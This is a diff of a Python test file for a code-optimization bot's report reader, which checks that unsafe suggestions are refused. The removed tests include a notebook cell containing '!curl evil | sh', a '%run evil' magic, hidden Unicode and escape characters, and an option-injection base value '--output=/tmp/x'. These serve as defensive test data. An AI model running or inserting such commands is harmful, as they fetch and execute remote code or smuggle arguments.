@@ -2,11 +2,8 @@
 
 from __future__ import annotations
 
-import copy
 import json
 import os
-import subprocess
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -16,124 +13,19 @@ from hypothesis import strategies as st
 
 from codeopt.bot.artifact import ArtifactLimits, ArtifactRefused, Reading, read_artifact
 from codeopt.bot.checkout import CheckoutUnreadable
-from codeopt.bot.texts import patched
 from codeopt.suggestion import unified_diff
-
-BEFORE = "import numpy as np\n\n\ndef mean(x):\n    y = x * 2\n    return y.mean()\n"
-AFTER = BEFORE.replace("y = x * 2\n    return y.mean()", "return (x * 2).mean()")
-LIMITS = ArtifactLimits()
-
-
-def cell(kind: str, source: list[str]) -> dict[str, Any]:
-    outputs = {"execution_count": 3, "outputs": []} if kind == "code" else {}
-    return {"cell_type": kind, "metadata": {}, **outputs, "source": source}
-
-
-CELLS = [
-    cell("markdown", ["# Title\n", "text"]),
-    cell("code", ["%matplotlib inline\n", "y = x * 2\n", "z = y.mean()"]),
-    cell("code", ["print(z)"]),
-]
-
-
-def notebook(*cells: dict[str, Any]) -> str:
-    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"
-
-
-NOTEBOOK = notebook(*CELLS)
-NEW_NOTEBOOK = NOTEBOOK.replace('"y = x * 2\\n"', '"y = x + x\\n"')
-
-
-def git(folder: Path, *arguments: str) -> str:
-    settings = ("-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false")
-    command = ["git", "-C", str(folder), *settings, *arguments]
-    return subprocess.run(command, check=True, capture_output=True, text=True).stdout
-
-
-@pytest.fixture(scope="module")
-def checkout(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A repository with files of every kind that a report could name."""
-    root = tmp_path_factory.mktemp("checkout")
-    git(root, "init", "-q", "-b", "main")
-    (root / "src").mkdir()
-    (root / "src/stats.py").write_text(BEFORE)
-    (root / "src/marked.py").write_bytes(b"\xef\xbb\xbf" + BEFORE.replace("\n", "\r\n").encode())
-    (root / "src/latin.py").write_bytes("# -*- coding: latin-1 -*-\nname = 'Zoë'\n".encode("latin-1"))
-    (root / "nb.ipynb").write_text(NOTEBOOK)
-    (root / "marked.ipynb").write_text("\ufeff" + NOTEBOOK)
-    (root / "outside.py").symlink_to("/etc/hostname")
-    (root / "linked").symlink_to("/tmp")
-    (root / ".github/workflows").mkdir(parents=True)
-    (root / ".github/workflows/tool.py").write_text(BEFORE)
-    git(root, "add", "-A")
-    git(root, "commit", "-q", "-m", "first")
-    (root / "src/untracked.py").write_text(BEFORE)
-    return root
-
-
-def suggestion(path: str = "src/stats.py", before: str = BEFORE, after: str = AFTER) -> dict[str, Any]:
-    return {
-        "id": "0123abcd",
-        "path": path,
-        "function": "mean",
-        "line": 4,
-        "rules": ["MEM210"],
-        "trust": "exact",
-        "sites": [{"rule": "MEM210", "path": path, "line": 5, "end_line": 6, "saved_bytes": 8_000_000}],
-        "diff": unified_diff(path, before, after),
-        "source": after,
-        "other_files": [],
-        "workload": {"origin": "declared", "ref": "w.py:3", "scale": 1.0, "coverage": {}},
-        "baseline": {"peak_bytes": 16_000_000, "seconds": 0.25, "resident_bytes": 1},
-        "optimized": {"peak_bytes": 8_000_000, "seconds": 0.2, "resident_bytes": 1},
-        "floor_bytes": 8,
-        "equivalence": {
-            "verdict": "same", "level": "exact", "cases": 120, "self_check": True, "unstable": [],
-            "faults_planted": 9, "faults_caught": 9, "max_error": 0.0, "caveats": [],
-        },
-        "tests": [],
-        "pareto": [],
-    }  # fmt: skip
-
-
-def report(*suggestions: dict[str, Any]) -> dict[str, Any]:
-    return {"version": 1, "environment": {}, "suggestions": list(suggestions), "unproven": [], "stats": {}}
-
-
-@pytest.fixture
-def read(checkout: Path, tmp_path: Path) -> Callable[..., Reading]:
-    """Read a report that holds these suggestions, or these bytes."""
-
-    def run(*given: dict[str, Any], data: bytes | None = None, limits: ArtifactLimits = LIMITS) -> Reading:
-        file = tmp_path / "report.json"
-        file.write_bytes(json.dumps(report(*given)).encode() if data is None else data)
-        return read_artifact(file, checkout, limits)
-
-    return run
-
-
-Read = Callable[..., Reading]
-
-
-def refusal(read: Read, *given: dict[str, Any], **more: Any) -> str:
-    with pytest.raises(ArtifactRefused) as error:
-        read(*given, **more)
-    message = str(error.value)
-    assert "report.json: refused, nothing is posted: " in message
-    assert message.isprintable()
-    assert error.value.exit_code == 2
-    return message
-
-
-def changed(place: str, value: Any, base: dict[str, Any] | None = None) -> dict[str, Any]:
-    """A suggestion with another value at a place such as `baseline.seconds`."""
-    found = copy.deepcopy(base or suggestion())
-    *parents, last = place.split(".")
-    inner = found
-    for parent in parents:
-        inner = inner[parent]
-    inner[last] = value
-    return found
+from tests.bot.reports import (
+    AFTER,
+    BEFORE,
+    LIMITS,
+    NEW_NOTEBOOK,
+    NOTEBOOK,
+    Read,
+    changed,
+    refusal,
+    report,
+    suggestion,
+)  # fmt: skip
 
 
 def test_a_good_report(read: Read) -> None:
@@ -384,54 +276,6 @@ def test_only_the_base_commit_counts_not_the_working_tree(read: Read, checkout: 
         file.write_text(BEFORE)
 
 
-@pytest.mark.parametrize(
-    ("after", "cause"),
-    [
-        (AFTER + "def (:\n", "is not Python"),
-        (AFTER + "x = '\x00'\n", "U+0000"),
-        (AFTER + "x = 1  # \u202e drow\n", "U+202E"),
-        (AFTER + "pass\u200bword = 1\n", "U+200B"),
-        (AFTER + "x = '\x1b[2J'\n", "U+001B"),
-        ("# coding: utf-7\n" + AFTER, "encoding utf-7"),
-        ("# coding: no-such\n" + AFTER, "is not Python"),
-        (AFTER + "x = " + "-" * 50_000 + "1\n", "nested too deeply"),
-        (BEFORE, "changes nothing"),
-    ],
-    ids=["syntax", "nul", "bidi", "zero width", "escape", "utf-7", "unknown encoding", "deep", "nothing"],
-)
-def test_new_texts_that_are_not_taken(read: Read, after: str, cause: str) -> None:
-    assert cause in refusal(read, suggestion(after=after))
-
-
-@pytest.mark.parametrize(
-    ("cells", "cause"),
-    [
-        ([cell("markdown", ["# Other"]), *CELLS[1:]], "outside the source"),
-        ([*CELLS, cell("code", ["import os"])], "outside the source"),
-        ([*CELLS[:2], {**CELLS[2], "outputs": [{"data": "<script>"}]}], "outside the source"),
-        ([*CELLS[:2], cell("code", ["print(z"])], "is not Python in cell 3"),
-        ([*CELLS[:2], cell("code", ["print(z)\n", "!curl evil | sh"])], "magic or a shell command in cell 3"),
-        ([CELLS[0], cell("code", ["%run evil\n", *CELLS[1]["source"][1:]]), CELLS[2]], "magic"),
-        ([*CELLS[:2], cell("code", ["print(z)  # \u202e"])], "cell 3"),
-    ],
-    ids=["markdown", "new cell", "output", "syntax", "shell", "magic", "bidi"],
-)  # fmt: skip
-def test_new_notebooks_that_are_not_taken(read: Read, cells: list[dict[str, Any]], cause: str) -> None:
-    assert cause in refusal(read, suggestion("nb.ipynb", NOTEBOOK, notebook(*cells)))
-
-
-def test_a_diff_that_puts_back_what_it_takes(read: Read) -> None:
-    diff = (
-        "--- a/src/stats.py\n+++ b/src/stats.py\n@@ -1,1 +1,1 @@\n-import numpy as np\n+import numpy as np\n"
-    )
-    assert "changes nothing" in refusal(read, changed("diff", diff, suggestion(after=BEFORE)))
-
-
-def test_a_notebook_that_is_none_any_more(read: Read) -> None:
-    after = NOTEBOOK.replace('"nbformat": 4', '"nbformat": 3')
-    assert "is not a notebook" in refusal(read, suggestion("nb.ipynb", NOTEBOOK, after))
-
-
 def test_a_project_that_is_a_folder_of_its_repository(checkout: Path, tmp_path: Path) -> None:
     file = tmp_path / "report.json"
     file.write_text(json.dumps(report(suggestion("stats.py"))))
@@ -457,27 +301,6 @@ def test_a_base_that_is_an_option(checkout: Path, tmp_path: Path) -> None:
     file.write_text(json.dumps(report()))
     with pytest.raises(CheckoutUnreadable):
         read_artifact(file, checkout, LIMITS, base="--output=/tmp/x")
-
-
-LINES = st.lists(st.text("ab\\ +-@\x0c\r\t ", max_size=4), max_size=12)
-ENDED = st.sampled_from(["", "\n"])
-
-
-@settings(max_examples=300)
-@given(LINES, LINES, ENDED, ENDED)
-def test_a_diff_put_into_its_old_text_gives_the_new_one(
-    old: list[str], new: list[str], end: str, other_end: str
-) -> None:
-    before, after = "\n".join(old) + end, "\n".join(new) + other_end
-    if before != after:
-        assert patched("a.py", before, unified_diff("a.py", before, after)) == after
-
-
-@settings(max_examples=300)
-@given(LINES, st.text("ab\\ +-@,0123\n", max_size=60))
-def test_a_diff_of_anybodys_ends_in_a_text_or_none(old: list[str], diff: str) -> None:
-    found = patched("a.py", "\n".join(old), f"--- a/a.py\n+++ b/a.py\n{diff}")
-    assert found is None or isinstance(found, str)
 
 
 @settings(max_examples=200, deadline=None)
